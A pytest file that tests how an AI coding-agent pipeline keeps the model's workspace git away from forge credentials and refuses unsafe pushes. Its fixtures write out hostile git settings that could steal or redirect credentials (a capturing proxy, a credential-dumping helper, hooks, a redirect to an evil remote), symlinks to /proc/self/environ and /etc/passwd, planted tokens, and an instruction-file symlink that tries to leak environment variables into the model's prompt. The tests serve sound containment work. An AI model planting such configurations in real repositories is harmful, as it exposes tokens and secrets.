"""Credentials never meet the model's git: the change is committed, checked and pushed
from the agent's own clone (infra.adapters.git.agent_clone), on real repositories, a
real git smart-HTTP server (the fake GitHub) with token auth, and a real nats-server for
the pipeline's artifacts."""

from __future__ import annotations

import os
import socket
import stat
import threading
from datetime import datetime, timezone
from pathlib import Path

import pytest

from actors.pipeline import PhaseFailed, PipelineSettings, instructions_of, run_pipeline
from events.refs import split_ref
from events.secrets import add_secrets, forget_added_secrets
from events.task import IssueRef
from events.task_state import TaskState
from events.work import CodeOutcome, CodeRequest
from events.work_reports import ChangesPushed, ImplementationProduced
from infra.adapters.forge.github import GitHubForge
from infra.adapters.forge.local import LocalForge, LocalForgeClient
from infra.adapters.git import gitops
from infra.adapters.git.agent_clone import AgentClone, UnsafeChange, check_change, remove_orphans
from infra.adapters.git.workbench import GitWorkbench
from infra.adapters.nats.artifacts import ObjectStoreArtifacts
from tests.fakes.github_api import fake_github_fixture  # noqa: F401 - fixture

pytestmark = pytest.mark.timeout(90)

TOKEN = "ghp_" + "T0k3n" * 8  # the forge token: a GitHub token's shape
NOW = datetime(2026, 1, 1, tzinfo=timezone.utc)
AUTHOR = ("ccc agent", "agent@ccc.local")


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    """No user git identity or config; no proxy exemptions (the hostile proxy must be
    usable, or the test proves nothing); the process's known secrets start empty."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for name in ("NO_PROXY", "no_proxy", "HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy",
                 "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    forget_added_secrets()
    yield
    forget_added_secrets()


class Listener:
    """A TCP port that records who connects (an attacker's proxy, as far as git knows)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.seen: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                self.seen.append(conn.recv(4096))
            except OSError:
                self.seen.append(b"")
            conn.close()

    def close(self) -> None:
        self.sock.close()


def github_forge(fake) -> GitHubForge:
    fake.tokens.add(TOKEN)
    return GitHubForge(TOKEN, api_url=fake.base_url, env={}, retries=0, seconds_between_requests=None,
                       seconds_between_writes=None, git_url_template=f"{fake.root}/git/{{repo}}.git")


def workspace(wb: GitWorkbench, url: str, env: dict | None = None, task_id: str = "acme_app-1"):
    ws = wb.create_workspace("agent-1", task_id, {})
    wb.clone(url, ws.repo_dir, env=env)
    branch = wb.branch_name(task_id, "Fix it")
    wb.create_branch(ws.repo_dir, branch)
    return ws, branch


# -- a hostile .git/config changes nothing ----------------------------------------------
def test_a_hostile_workspace_git_config_has_no_effect_on_commit_or_push(fake_github, tmp_path):
    fake_github.init_git_repo("acme/app", {"README.md": "hello\n", "app.py": "X = 1\n"})
    forge = github_forge(fake_github)
    wb = GitWorkbench(tmp_path / "ws")
    wb.prepare()
    ws, branch = workspace(wb, forge.clone_url("acme/app"), forge.git_env("acme/app"))
    repo = ws.repo_dir
    proxy, marks = Listener(), tmp_path / "marks"
    marks.mkdir()
    evil = tmp_path / "evil.git"
    gitops.run_git(tmp_path, "init", "-q", "--bare", str(evil))
    hooks = repo / ".git" / "evil-hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "pre-push", "post-commit", "reference-transaction"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {marks}/hook-{hook}\n")
        (hooks / hook).chmod(0o755)
    # what the model (or the repository's tests) can write into its own .git/config
    with open(repo / ".git" / "config", "a") as f:
        f.write(f"""
[http]
\tproxy = http://127.0.0.1:{proxy.port}
[credential]
\thelper = "!f() {{ cat > {marks}/credential-helper; }}; f"
[core]
\thooksPath = {hooks}
\tfsmonitor = "touch {marks}/fsmonitor; false"
\tworktree = {tmp_path / "home"}
[filter "x"]
\tclean = "touch {marks}/clean-filter; cat"
[remote "origin"]
\tpushurl = {evil}
[url "{evil}"]
\tpushInsteadOf = {fake_github.root}
""")
    (repo / ".gitattributes").write_text("* filter=x\n")
    (repo / "app.py").write_text("X = 2\n")
    try:
        # the control: git *in the workspace* would hand the token to that proxy
        gitops.run_git(repo, "ls-remote", f"{fake_github.root}/git/acme/app.git",
                       env=forge.git_env("acme/app"), check=False)
        assert proxy.seen, "even the workspace's git did not use the hostile proxy: the test proves nothing"
        proxy.seen.clear()

        assert wb.changed_files(repo) == [".gitattributes", "app.py"]
        sha = wb.commit_all(repo, "Fix it", *AUTHOR)
        assert wb.push(repo, branch, env=forge.git_env("acme/app")) == sha
    finally:
        proxy.close()

    assert proxy.seen == []  # the proxy saw nothing, let alone the token
    assert sorted(p.name for p in marks.iterdir()) == []  # no helper, hook, fsmonitor or filter ran
    bare = fake_github.git_root / "acme/app.git"
    assert gitops.git_output(bare, "rev-parse", f"refs/heads/{branch}") == sha
    assert gitops.git_output(bare, "show", f"{sha}:app.py") == "X = 2"
    assert gitops.run_git(evil, "for-each-ref", check=False)[1] == b""  # nothing went to the evil remote
    # the push authenticated through the host-scoped askpass, and only that
    assert any("git-receive-pack" in r.path for r in fake_github.requests)
    # the agent's clone: 0700, outside the task directory, no token in its config
    [git_dir] = list((tmp_path / "ws" / ".agent-clones").iterdir())
    assert stat.S_IMODE(git_dir.stat().st_mode) == 0o700
    assert not git_dir.is_relative_to(ws.path)
    assert TOKEN not in (git_dir / "config").read_text()


def test_what_is_pushed_is_the_workspace_files_on_the_base_not_the_models_commits(tmp_path):
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"a.txt": "a\n"})
    wb = GitWorkbench(tmp_path / "ws")
    ws, branch = workspace(wb, forge.clone_url("acme/app"))
    base = wb.head_sha(ws.repo_dir)
    # the model commits on its own (with its own identity, a secret in between, then
    # deletes it again): its history is not what is proposed
    (ws.repo_dir / "b.txt").write_text("b\n")
    (ws.repo_dir / "oops.txt").write_text(f"token {TOKEN}\n")
    gitops.run_git(ws.repo_dir, "add", "-A")
    gitops.run_git(ws.repo_dir, "commit", "-qm", "model commit", env=gitops.identity_env("m", "m@m"))
    (ws.repo_dir / "oops.txt").unlink()
    gitops.run_git(ws.repo_dir, "commit", "-qam", "model commit 2", env=gitops.identity_env("m", "m@m"))
    assert wb.changed_files(ws.repo_dir) == ["b.txt"]
    assert TOKEN not in wb.diff(ws.repo_dir)
    sha = wb.commit_all(ws.repo_dir, "Add b", *AUTHOR)
    wb.push(ws.repo_dir, branch)
    bare = forge.repo_path("acme/app")
    log = gitops.git_output(bare, "log", "--format=%P|%an|%s", branch).splitlines()
    assert log[0] == f"{base}|{AUTHOR[0]}|Add b" and len(log) == 2  # one commit, on the base
    assert gitops.git_output(bare, "rev-list", "--all", "--objects").count("oops.txt") == 0
    assert forge.read_file("acme/app", branch, "b.txt") == "b\n"
    assert sha == forge.branch_sha("acme/app", branch)


# -- what may be pushed ------------------------------------------------------------------
def _refused(tmp_path, change, match, **push) -> None:
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"a.txt": "a\n", "docs/readme.md": "r\n"})
    wb = GitWorkbench(tmp_path / "ws")
    ws, branch = workspace(wb, forge.clone_url("acme/app"))
    change(ws.repo_dir)
    wb.commit_all(ws.repo_dir, "change", *AUTHOR)
    with pytest.raises(UnsafeChange, match=match) as e:
        wb.push(ws.repo_dir, branch, **push)
    assert not e.value.retryable
    assert branch not in forge.branches("acme/app")  # nothing was pushed


def test_a_symlink_out_of_the_tree_is_refused(tmp_path):
    def absolute(repo: Path) -> None:
        (repo / "environ").symlink_to("/proc/self/environ")

    def upward(repo: Path) -> None:
        (repo / "docs" / "up").symlink_to("../../../../etc/passwd")

    def into_git(repo: Path) -> None:
        (repo / "cfg").symlink_to(".git/config")

    for i, change in enumerate((absolute, upward, into_git)):
        _refused(tmp_path / str(i), change, r"a symlink out of the repository .*: not pushed")


def test_a_symlink_within_the_tree_is_an_ordinary_change(tmp_path):
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"docs/readme.md": "r\n"})
    wb = GitWorkbench(tmp_path / "ws")
    ws, branch = workspace(wb, forge.clone_url("acme/app"))
    (ws.repo_dir / "README.md").symlink_to("docs/readme.md")
    (ws.repo_dir / "docs" / "self").symlink_to("../docs")
    sha = wb.commit_all(ws.repo_dir, "link", *AUTHOR)
    assert wb.push(ws.repo_dir, branch) == sha


def test_submodules_and_embedded_repositories_are_refused(tmp_path):
    def embedded(repo: Path) -> None:  # a repository the coder cloned or made inside
        sub = repo / "vendor" / "lib"
        sub.mkdir(parents=True)
        gitops.run_git(sub, "init", "-q")
        (sub / "x").write_text("x\n")
        gitops.run_git(sub, "add", "-A")
        gitops.run_git(sub, "commit", "-qm", "x", env=gitops.identity_env("m", "m@m"))

    def gitmodules(repo: Path) -> None:
        (repo / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n')

    _refused(tmp_path / "a", embedded, r"a submodule \(vendor/lib\): not pushed")
    _refused(tmp_path / "b", gitmodules, r"git's own files \(\.gitmodules\): not pushed")


def test_a_file_above_the_size_limit_is_refused(tmp_path):
    def big(repo: Path) -> None:
        (repo / "blob.bin").write_bytes(os.urandom(4096))

    _refused(tmp_path, big, r"a file of 4096 bytes \(blob.bin\), above the limit of 4000",
             max_file_bytes=4000)


def test_a_change_with_a_secret_is_refused_and_says_which_kind(tmp_path):
    known = "the-agents-own-nats-seed-value"
    add_secrets(known)

    def known_value(repo: Path) -> None:
        (repo / "a.txt").write_text(f"a\nSEED = '{known}'\n")

    def github_token(repo: Path) -> None:
        (repo / "config.py").write_text(f"TOKEN = '{TOKEN}'\n")

    def in_a_binary(repo: Path) -> None:
        (repo / "data.bin").write_bytes(b"\x00\x01" + known.encode() + b"\xff\x00")

    def in_a_path(repo: Path) -> None:
        (repo / f"{known}.txt").write_text("x\n")

    for i, (change, kind, where) in enumerate((
            (known_value, "a secret this process holds", "a.txt"),
            (github_token, "a GitHub token", "config.py"),
            (in_a_binary, "a secret this process holds", "data.bin"),
            (in_a_path, "a secret this process holds", r"\*\*\*.txt"))):
        _refused(tmp_path / str(i), change,
                 rf"the change contains a secret \({kind} in {where}: .*\): not pushed$")


def test_git_internals_in_a_tree_are_refused(tmp_path):
    """git will not add a ``.git`` path itself; a tree made by hand (or by a future git
    bug) is still refused, in every spelling a checkout somewhere would honour."""
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"a.txt": "a\n"})
    wb = GitWorkbench(tmp_path / "ws")
    ws, _ = workspace(wb, forge.clone_url("acme/app"))
    clone = AgentClone(next((tmp_path / "ws" / ".agent-clones").iterdir()), ws.repo_dir)
    env = {"GIT_DIR": str(clone.git_dir)}
    blob_sha = gitops.git_output(tmp_path, "hash-object", "-w", "/dev/null", env=env)  # the empty blob
    for name in (".GIT", ".git.", "git~1", ".Gitmodules"):
        inner = _mktree(clone.git_dir, f"100644 blob {blob_sha}\tconfig\n")
        tree = _mktree(clone.git_dir, f"040000 tree {inner}\t{name}\n100644 blob {blob_sha}\ta.txt\n")
        commit = gitops.git_output(tmp_path, "commit-tree", tree, "-p", clone.base(), "-m", "x",
                                   env={**env, **gitops.identity_env("m", "m@m")})
        with pytest.raises(UnsafeChange, match="git's own files"):
            check_change(clone.git_dir, clone.base(), commit)


def _mktree(git_dir: Path, listing: str) -> str:
    import subprocess

    run = subprocess.run(["git", "mktree"], input=listing.encode(), capture_output=True, check=True,
                         env={**os.environ, "GIT_DIR": str(git_dir)})
    return run.stdout.decode().strip()


def test_a_workspace_replaced_by_a_symlink_is_not_read(tmp_path):
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"a.txt": "a\n"})
    wb = GitWorkbench(tmp_path / "ws")
    ws, _ = workspace(wb, forge.clone_url("acme/app"))
    secrets_dir = tmp_path / "home" / ".ssh"
    secrets_dir.mkdir(parents=True)
    (secrets_dir / "id_ed25519").write_text("private\n")
    os.rename(ws.repo_dir, ws.path / "repo.moved")
    ws.repo_dir.symlink_to(secrets_dir)
    with pytest.raises(UnsafeChange, match="was replaced: not read"):
        wb.changed_files(ws.repo_dir)


# -- files the agent reads for itself ------------------------------------------------------
def test_repository_files_are_read_only_as_regular_files(tmp_path):
    repo = tmp_path / "repo"
    (repo / ".ccc").mkdir(parents=True)
    (repo / "real").mkdir()
    (repo / "CLAUDE.md").symlink_to("/proc/self/environ")
    (repo / "AGENTS.md").write_text("be careful\n")
    (repo / "real" / "notes.md").write_text("notes\n")
    (repo / "linked").symlink_to("real")  # a symlinked directory on the way
    (repo / "big.md").write_bytes(b"x" * 100)
    os.mkfifo(repo / "fifo.md")  # would block a plain open()
    read = gitops.read_regular_file
    assert read(repo, "CLAUDE.md", max_bytes=1000) is None
    assert read(repo, "AGENTS.md", max_bytes=1000) == b"be careful\n"
    assert read(repo, "real/notes.md", max_bytes=1000) == b"notes\n"
    assert read(repo, "linked/notes.md", max_bytes=1000) is None
    assert read(repo, "fifo.md", max_bytes=1000) is None
    assert read(repo, "absent.md", max_bytes=1000) is None
    assert read(repo, "real", max_bytes=1000) is None
    assert read(repo, "big.md", max_bytes=10) == b"x" * 11  # one more: the caller sees it was cut
    with pytest.raises(ValueError):
        read(repo, "../outside", max_bytes=10)
    # the test command too: a symlinked .ccc/test-command is not read
    (repo / ".ccc" / "test-command").symlink_to("/proc/self/environ")
    assert gitops.detect_test_command(repo) is None


def test_workspaces_and_the_workbench_root_are_private(tmp_path):
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"a.txt": "a\n"})
    root = tmp_path / "ws"
    root.mkdir(mode=0o755)
    wb = GitWorkbench(root)
    wb.prepare()
    ws, _ = workspace(wb, forge.clone_url("acme/app"))
    for d in (root, root / "agent-1", root / "agent-1" / "tasks", ws.path, ws.repo_dir, ws.logs_dir,
              root / ".agent-clones", next((root / ".agent-clones").iterdir())):
        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d


def test_the_agents_clones_go_with_their_workspaces(tmp_path):
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"a.txt": "a\n"})
    root = tmp_path / "ws"
    wb = GitWorkbench(root)
    clones = root / ".agent-clones"
    ws1, _ = workspace(wb, forge.clone_url("acme/app"), task_id="acme_app-1")
    ws2, _ = workspace(wb, forge.clone_url("acme/app"), task_id="acme_app-2")
    assert len(list(clones.iterdir())) == 2
    wb.finish_workspace("agent-1", "acme_app-1", "done")  # the attempt is over: its clone too
    [active] = list(clones.iterdir())
    half = clones / "half-taken.git"  # another agent's clone being taken right now: kept
    half.mkdir()
    gitops.run_git(tmp_path, "init", "-q", "--bare", str(clones / "crashed.git"))
    (clones / "crashed.git" / "ccc-work-tree").write_text(str(tmp_path / "gone" / "repo"))
    assert remove_orphans(clones, 3600) == [clones / "crashed.git"]
    assert {p.name for p in clones.iterdir()} == {active.name, half.name}
    os.utime(half, (0, 0))  # ...unless it is older than the retention: it never finished
    assert remove_orphans(clones, 3600) == [half]
    assert wb.changed_files(ws2.repo_dir) == []


def test_the_data_dir_is_private(tmp_path):
    from infra.adapters.nats.server import EmbeddedServer

    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    server = EmbeddedServer(data)
    server.start()
    try:
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
    finally:
        server.stop()


# -- through the pipeline ----------------------------------------------------------------------
class EditingCoder:
    """A coder that makes the given edits (what a model does with its tools) and keeps
    the request it was sent."""

    name = "editing"

    def __init__(self, edit) -> None:
        self.edit = edit
        self.requests: list[CodeRequest] = []

    async def implement(self, request: CodeRequest, workspace) -> CodeOutcome:
        self.requests.append(request)
        self.edit(Path(request.repo_dir))
        return CodeOutcome(summary="did it", status="done")


def _task(number: int = 1) -> TaskState:
    issue = IssueRef(source="local", repo="acme/app", number=number, title="Fix it", body="please")
    return TaskState(task_id=f"acme_app-{number}", status="assigned", version=3, issue=issue,
                     created_at=NOW, updated_at=NOW, agent_id="agent-1")


async def _run(nc, ns, tmp_path, forge: LocalForge, coder) -> tuple[list, BaseException | None]:
    reports: list = []

    async def report(body) -> None:
        reports.append(body)

    try:
        await run_pipeline(agent_id="agent-1", task=_task(), settings=PipelineSettings(test_timeout=30),
                           workbench=GitWorkbench(tmp_path / "ws"), coder=coder,
                           forge=LocalForgeClient(forge.root),
                           artifacts=ObjectStoreArtifacts(nc, ns.artifacts_bucket), report=report)
    except PhaseFailed as e:
        return reports, e
    return reports, None


async def test_a_change_with_a_known_secret_fails_the_push_and_is_kept_masked(nc, ns, store, tmp_path):
    known = "agent-held-secret-value-42"
    add_secrets(known)
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"app.py": "X = 1\n"})

    def leak(repo: Path) -> None:
        (repo / "app.py").write_text(f"X = 1\nCREDENTIAL = '{known}'\nGH = '{TOKEN}'\n")

    reports, failure = await _run(nc, ns, tmp_path, forge, EditingCoder(leak))
    assert isinstance(failure, PhaseFailed) and failure.phase == "push" and not failure.retryable
    assert failure.reason.startswith("the change contains a secret (a secret this process holds in app.py: ")
    assert failure.reason.endswith(", and 1 more): not pushed")
    assert known not in failure.reason and TOKEN not in failure.reason
    assert not any(isinstance(r, ChangesPushed) for r in reports)
    assert [b for b in forge.branches("acme/app") if b != "main"] == []
    # the work is kept, masked: the failure points at it
    [impl] = [r for r in reports if isinstance(r, ImplementationProduced)]
    assert failure.log_ref == impl.diff_ref
    obs = await nc.jetstream().object_store(ns.artifacts_bucket)
    diff = (await obs.get(split_ref(impl.diff_ref).name)).data.decode()
    assert "+CREDENTIAL = '***'" in diff and "+GH = '***'" in diff
    assert known not in diff and TOKEN not in diff


async def test_a_symlink_out_of_the_tree_added_by_the_coder_fails_the_push(nc, ns, store, tmp_path):
    forge = LocalForge(tmp_path / "forge")
    forge.create_repo("acme/app", {"app.py": "X = 1\n"})

    def link(repo: Path) -> None:
        (repo / "app.py").write_text("X = 2\n")
        (repo / "leak").symlink_to("/proc/self/environ")

    _, failure = await _run(nc, ns, tmp_path, forge, EditingCoder(link))
    assert failure is not None and failure.phase == "push"
    assert failure.reason == ("the change adds a symlink out of the repository (leak -> /proc/self/environ): "
                              "not pushed")


async def test_a_committed_instructions_symlink_is_not_read_into_the_prompt(nc, ns, store, tmp_path):
    """``CLAUDE.md -> /proc/self/environ`` in the repository: the agent's environment must
    not reach the coder's prompt. A regular ``AGENTS.md`` still does."""
    src = tmp_path / "src"
    src.mkdir()
    gitops.run_git(src, "init", "-q", "-b", "main")
    (src / "CLAUDE.md").symlink_to("/proc/self/environ")
    (src / ".ccc").mkdir()
    (src / ".ccc" / "instructions.md").symlink_to("../AGENTS.md")  # in-tree, but still a symlink
    (src / "AGENTS.md").write_text("Use tabs.\n")
    (src / "app.py").write_text("X = 1\n")
    gitops.run_git(src, "add", "-A")
    gitops.run_git(src, "commit", "-qm", "init", env=gitops.identity_env("t", "t@t"))
    forge = LocalForge(tmp_path / "forge")
    forge.import_repo("acme/app", src)
    os.environ["CCC_P11_CANARY"] = canary = "canary-value-in-the-agents-environment"
    try:
        coder = EditingCoder(lambda repo: (repo / "app.py").write_text("X = 2\n"))
        reports, failure = await _run(nc, ns, tmp_path, forge, coder)
    finally:
        del os.environ["CCC_P11_CANARY"]
    assert failure is None, failure
    [request] = coder.requests
    assert request.instructions == "# AGENTS.md\nUse tabs.\n"
    assert canary not in request.instructions
    # and the committed symlink itself, unchanged, is no reason to refuse the push
    assert any(isinstance(r, ChangesPushed) for r in reports)
    wb = GitWorkbench(tmp_path / "ws2")
    ws, _ = workspace(wb, forge.clone_url("acme/app"), task_id="acme_app-2")
    assert instructions_of(wb, ws.repo_dir) == "# AGENTS.md\nUse tabs.\n"
